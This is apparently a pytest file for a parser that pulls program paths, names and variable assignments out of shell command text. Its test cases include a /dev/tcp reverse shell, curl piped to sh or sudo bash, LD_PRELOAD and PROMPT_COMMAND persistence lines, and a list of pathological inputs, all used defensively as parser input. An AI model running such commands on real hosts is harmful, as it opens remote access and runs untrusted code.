import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from hemostat.parse.host.shell_text import assignments_in, names_in, programs_in, read_shell_text

CASES = [
    ("/opt/x.sh", ["/opt/x.sh"]),
    ("/bin/bash /opt/x.sh >/dev/null 2>&1", ["/bin/bash", "/opt/x.sh"]),
    ("python3 -u /srv/a.py --port 80", ["/srv/a.py"]),
    ("/usr/bin/python3.11 -W ignore -m http.server", ["/usr/bin/python3.11"]),
    ("python3 -c 'import x' /srv/a.py", []),
    ("sh -c '/tmp/a && /tmp/b'", ["/tmp/a", "/tmp/b"]),
    ('bash -lc "exec /opt/app/run --x"', ["/opt/app/run"]),
    ("bash -c -l '/opt/x'", ["/opt/x"]),
    ("bash -o pipefail /opt/x", ["/opt/x"]),
    ("sudo -u www -- /usr/bin/php -f /srv/cron.php", ["/usr/bin/php", "/srv/cron.php"]),
    ("sudo -E FOO=1 /opt/x", ["/opt/x"]),
    ("nohup /opt/x &", ["/opt/x"]),
    ("/usr/bin/env A=b python3 /opt/x.py", ["/usr/bin/env", "/opt/x.py"]),
    ("env -S 'python3 -u /opt/x.py'", ["/opt/x.py"]),
    ("nice -n 19 ionice -c 3 timeout -k 5 10 setsid /opt/x", ["/opt/x"]),
    ("flock -n /run/x.lock /opt/x", ["/opt/x"]),
    ("flock -n /run/x.lock -c '/opt/x a'", ["/opt/x"]),
    ("chroot /srv/jail /bin/app", ["/srv/jail/bin/app"]),
    ("systemd-run --unit=x -p A=b /opt/x", ["/opt/x"]),
    ("[ -x /opt/a ] && /opt/b", ["/opt/b"]),
    ("test -x /opt/a || ( cd /opt && ./b )", ["/opt/b"]),
    (
        "cd / && test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )",
        [],
    ),
    ("run-parts /tmp/jobs", ["/tmp/jobs"]),
    (". /etc/default/x", ["/etc/default/x"]),
    ("source /opt/env.sh; exec -a name /opt/x", ["/opt/env.sh", "/opt/x"]),
    ("command -v /opt/x", []),
    ("x=$(/opt/x a)", ["/opt/x"]),
    ('echo "a $(/opt/x "$(/opt/y)") b" `/opt/z`', ["/opt/y", "/opt/x", "/opt/z"]),
    ("cat <(/opt/x)", ["/opt/x"]),
    ("/opt/a | /opt/b |& /opt/c", ["/opt/a", "/opt/b", "/opt/c"]),
    ("cat /opt/x | sh", ["/opt/x"]),
    ("sh < /opt/x", ["/opt/x"]),
    ("echo a > /tmp/out 2>>/tmp/err", []),
    ("LD_PRELOAD=/tmp/x.so /opt/y", ["/opt/y"]),
    ("cd /opt/app && ./run.sh", ["/opt/app/run.sh"]),
    ("cd /opt/app; python manage.py run", ["/opt/app/manage.py"]),
    ("(cd /opt/app; true); ./run.sh", ["/run.sh"]),
    ('cd "$SOMEWHERE" && ./run.sh', []),
    ("java -Xmx1g -cp /a.jar:/b.jar -jar /opt/x.jar", ["/opt/x.jar"]),
    ("java -javaagent:/opt/a.jar=x com.example.Main", ["/opt/a.jar"]),
    ("node --inspect /srv/x.js", ["/srv/x.js"]),
    ("node -r /srv/hook.js /srv/x.js", ["/srv/hook.js", "/srv/x.js"]),
    ("perl -I /opt/lib /opt/x.pl", ["/opt/x.pl"]),
    ("perl -e 'system(1)' /etc/passwd", []),
    ("gawk -f /opt/x.awk /var/log/messages", ["/opt/x.awk"]),
    ("su - app -c '/opt/x start'", ["/opt/x"]),
    ("su app -s /bin/sh -c /opt/x", ["/bin/sh", "/opt/x"]),
    ("runuser -u app -- /opt/x", ["/opt/x"]),
    ("start-stop-daemon --start --quiet --pidfile /run/x.pid --exec /opt/x -- -d", ["/opt/x"]),
    (
        "start-stop-daemon -S -x /usr/bin/python3 -- /opt/x.py",
        ["/usr/bin/python3", "/opt/x.py"],
    ),
    ("find /var -name x -exec /opt/x {} \\;", ["/opt/x"]),
    ("ip netns exec blue /opt/x", ["/opt/x"]),
    ("screen -dmS job /opt/x", ["/opt/x"]),
    ("tmux new-session -d -s a '/opt/x'", ["/opt/x"]),
    ("busybox nohup /opt/x", ["/opt/x"]),
    ("/lib64/ld-linux-x86-64.so.2 /tmp/x", ["/lib64/ld-linux-x86-64.so.2", "/tmp/x"]),
    ("D=/opt/.x; $D/run ${D}/more", ["/opt/.x/run"]),
    ('if [ -f /etc/x ]; then . /etc/x; fi', ["/etc/x"]),
    ('for f in /etc/a /etc/b; do . "$f"; done', []),
    ("alias ls='/tmp/ls --color'", ["/tmp/ls"]),
    ("export PROMPT_COMMAND='/tmp/x &'", ["/tmp/x"]),
    ("BASH_ENV=/tmp/x", ["/tmp/x"]),
    ("trap '/tmp/x' EXIT", ["/tmp/x"]),
    ("eval \"/tmp/x a\"", ["/tmp/x"]),
    ("f() { /opt/x; }", ["/opt/x"]),
    ("case $1 in start) /opt/x ;; esac", ["/opt/x"]),
    ("echo hi # /opt/x", []),
    ("echo hi; # c\n/opt/y", ["/opt/y"]),
    ("'/opt/a b/x' y", ["/opt/a b/x"]),
    ("/opt/a\\ b/x", ["/opt/a b/x"]),
    ("$'/opt/\\x78'", ["/opt/x"]),
    ("/opt/../tmp//x", ["/tmp/x"]),
    ("insmod /lib/x.ko", ["/lib/x.ko"]),
    ("git -C /srv/x pull", []),
    ("bash -i >& /dev/tcp/198.51.100.7/443 0>&1", []),
]  # fmt: skip


@pytest.mark.requirement("B5.4")
@pytest.mark.parametrize(("command", "programs"), CASES)
def test_programs_and_scripts_are_named(command: str, programs: list[str]) -> None:
    assert list(programs_in(command)) == programs


def test_home_is_filled_in_where_known() -> None:
    command = "~/a; $HOME/b; ${HOME}/c; ~root/d"
    assert programs_in(command, home="/home/u") == (
        "/home/u/a",
        "/home/u/b",
        "/home/u/c",
        "/root/d",
    )
    assert programs_in(command) == ("/root/d",)


def test_relative_paths_are_left_out_where_the_folder_is_unknown() -> None:
    assert programs_in("./x; python3 y/z.py; /a", cwd="") == ("/a",)


def test_names_are_commands_without_a_path() -> None:
    command = "if true; then curl -s x | sudo bash; fi; echo a; FOO=1 nginx -t; [ -f x ] && cd /"
    assert names_in(command) == ("curl", "sudo", "bash", "nginx")


def test_function_definitions_are_no_names() -> None:
    assert names_in("f() { make; }") == ("make",)


def test_assignments_are_named() -> None:
    command = "A=1 B='x y' cmd; export C=\"$A/z\" D; env E=2 cmd; PATH+=:/tmp"
    assert assignments_in(command) == ("A=1", "B=x y", "C=1/z", "E=2", "PATH=:/tmp")


def test_a_variable_that_doubles_itself_stays_small() -> None:
    command = "D=aaaaaaaa;" + "D=$D$D;" * 60 + "/opt/x"
    assert programs_in(command) == ("/opt/x",)


HOSTILE = [
    "$(" * 30_000,
    '"$(' * 20_000,
    "`" * 60_001,
    "${a:-" * 12_000,
    "(" * 60_000,
    "'" * 60_001,
    "\\" * 60_001,
    "sh -c " * 10_000,
    "sudo " * 12_000,
    "eval " * 12_000,
    "a=b " * 15_000,
    "/x;" * 20_000,
    "<(" * 30_000,
    "find -exec " * 5_000,
    "alias x=$(y) " * 4_000,
    "/" * 60_000,
    "$D" * 30_000,
    "A=$A$A;" * 8_000,
    "A=" + "x" * 4_000 + ";" + "$A" * 25_000,
]


@pytest.mark.parametrize("text", HOSTILE, ids=lambda text: text[:12])
def test_hostile_text_costs_bounded_time(text: str) -> None:
    begin = time.process_time()
    read_shell_text(text, "/", "/home/u")
    assert time.process_time() - begin < 2.0


@given(st.text(alphabet="abc/$(){}`'\"\\;|&<> \n=-#~[]!", max_size=200))
def test_any_text_is_read_without_raising_and_gives_absolute_paths(text: str) -> None:
    found = read_shell_text(text, "/", "/home/u")
    assert all(path.startswith("/") for path in found.programs)
    assert all("/" not in name and name for name in found.names)


@given(st.text(max_size=300))
def test_a_plain_program_in_front_is_always_found(text: str) -> None:
    assert programs_in("/opt/first; " + text)[:1] == ("/opt/first",)


def test_an_address_piped_to_a_shell_is_no_file() -> None:
    assert programs_in("curl -s http://203.0.113.9/a | sh", "/root") == ()
    assert programs_in("cat /opt/a.sh | sh", "/root") == ("/opt/a.sh",)
